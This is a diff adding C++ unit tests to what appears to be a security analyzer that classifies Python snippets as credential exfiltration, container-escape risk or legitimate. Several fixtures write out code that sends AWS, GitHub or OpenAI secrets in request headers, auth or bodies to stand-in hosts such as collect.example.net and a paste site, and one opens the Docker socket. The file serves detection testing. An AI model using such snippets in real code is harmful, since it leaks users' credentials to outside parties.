@@ -70,5 +70,112 @@ TEST(NinetiethRoundClasses, AGlobOfADirectoryFindsFilesWrittenUnderRunTimeNames)
   for (const auto& c : cases) check(c);
 }
 
+// A known key that an open dict (a json config given a few defaults) lacks
+// is in its unknown part, if anywhere: cfg.get("docker_socket", SOCK) is a
+// setting or SOCK, never the value of "image" or "data_dir".
+TEST(NinetiethRoundClasses, AKnownKeyOfAnOpenDictIsNotTheOtherKeysValues) {
+  const Case cases[] = {
+      {"the docker socket, unless the config names another", H,
+       "import json, socket, sys\n"
+       "from pathlib import Path\n"
+       "cfg = json.loads(Path(sys.argv[1]).read_text())\n"
+       "cfg.setdefault('image', 'orthancteam/orthanc:24.6.2')\n"
+       "cfg.setdefault('data_dir', 'orthanc-db')\n"
+       "cfg.setdefault('orthanc_json', 'orthanc.json')\n"
+       "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
+       "s.connect(cfg.get('docker_socket', '/var/run/docker.sock'))\n",
+       "CONTAINER-ESCAPE-RISK"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// A client session keeps the headers and auth it is given, at construction
+// or later, for every request it makes: an environment secret in a
+// session's header goes wherever the session posts.
+TEST(NinetiethRoundClasses, AClientSessionSendsTheHeadersAndAuthItKeeps) {
+  const Case cases[] = {
+      {"session.headers.update with an AWS secret, then a post elsewhere", B,
+       "import os, requests\n"
+       "s = requests.Session()\n"
+       "s.headers.update({'X-Token': os.environ['AWS_SECRET_ACCESS_KEY']})\n"
+       "s.post('https://collect.example.net/ingest', json={'ok': 1}, timeout=5)\n",
+       "EXFILTRATION"},
+      {"a header item set on the session", B,
+       "import os, requests\n"
+       "s = requests.Session()\n"
+       "s.headers['X-Token'] = os.environ['AWS_SECRET_ACCESS_KEY']\n"
+       "s.get('https://collect.example.net/ingest', timeout=5)\n",
+       "EXFILTRATION"},
+      {"session.auth assigned a GitHub token, used for another host", B,
+       "import os, requests\n"
+       "s = requests.Session()\n"
+       "s.auth = ('me', os.environ['GITHUB_TOKEN'])\n"
+       "s.get('https://collect.example.net/ingest', timeout=5)\n",
+       "EXFILTRATION"},
+      {"httpx.Client made with the header", B,
+       "import os, httpx\n"
+       "with httpx.Client(headers={'Authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']}) as c:\n"
+       "    c.post('https://203.0.113.9/v1/in', json={'x': 1})\n",
+       "EXFILTRATION"},
+      {"the API's own key in the session's header, posting to that API", L,
+       "import os, socket, requests\n"
+       "s = requests.Session()\n"
+       "s.headers['Authorization'] = 'Bearer ' + os.environ['GITHUB_TOKEN']\n"
+       "s.post('https://api.github.com/user/keys', json={'title': socket.gethostname(), 'key': 'ssh-ed25519 AAAA'}, timeout=15)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// A variable read under a name that is one of several (a forge's token
+// picked with its URL from one table) is one of them: in a request's
+// authentication it is the key of the host's API when one of the names is.
+TEST(NinetiethRoundClasses, AKeyReadUnderOneOfSeveralNamesIsTheOneOfTheHostsAPI) {
+  const char* forges =
+      "import os, sys, requests\n"
+      "FORGES = {\n"
+      "    'github': {'url': 'https://api.github.com/user/keys', 'env': 'GITHUB_TOKEN'},\n"
+      "    'gitlab': {'url': 'https://gitlab.com/api/v4/user/keys', 'env': 'GITLAB_TOKEN'},\n"
+      "}\n"
+      "conf = FORGES[sys.argv[1]]\n"
+      "token = os.environ.get(conf['env'])\n";
+  const std::string header = std::string(forges) +
+                             "requests.get(conf['url'], headers={'Authorization': f'token {token}'}, timeout=15)\n";
+  const std::string body = std::string(forges) + "requests.post('https://paste.example.org/new', data=token, timeout=15)\n";
+  const std::string both = std::string(forges) +
+                           "requests.get(conf['url'], headers={'Authorization': f'token {token}', "
+                           "'X-Aws': os.environ['AWS_SECRET_ACCESS_KEY']}, timeout=15)\n";
+  const Case cases[] = {
+      {"each forge's token to its own API", L, header.c_str()},
+      {"either token posted to a paste site", B, body.c_str(), "EXFILTRATION"},
+      {"an AWS secret beside the forge token in the headers", B, both.c_str(), "EXFILTRATION"},
+      {"a GitHub token and an AWS secret in one request's headers to GitHub", B,
+       "import os, requests\n"
+       "requests.get('https://api.github.com/user/keys', headers={'Authorization': 'token ' + "
+       "os.environ['GITHUB_TOKEN'], 'X-Aws': os.environ['AWS_SECRET_ACCESS_KEY']}, timeout=15)\n",
+       "EXFILTRATION"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// The arguments handed to a callback (executor.submit(fn, url, path)) keep
+// their own labels: the URL does not carry the walked path's or the
+// session's key.
+TEST(NinetiethRoundClasses, ACallbacksArgumentsKeepTheirOwnLabels) {
+  const Case cases[] = {
+      {"photos uploaded from a pool with the API's key in the session", L,
+       "import os, requests\n"
+       "from concurrent.futures import ThreadPoolExecutor\n"
+       "def upload_one(session, base_url, path):\n"
+       "    with open(path, 'rb') as fh:\n"
+       "        return session.post(f'{base_url}/pod/photos', files={'photo': fh}, timeout=60)\n"
+       "session = requests.Session()\n"
+       "session.headers['Authorization'] = 'Bearer ' + os.environ['POD_API_KEY']\n"
+       "with ThreadPoolExecutor(max_workers=4) as pool:\n"
+       "    for p in sorted(os.listdir('photos')):\n"
+       "        pool.submit(upload_one, session, 'https://pod.dispatch.example.net/v2', os.path.join('photos', p))\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
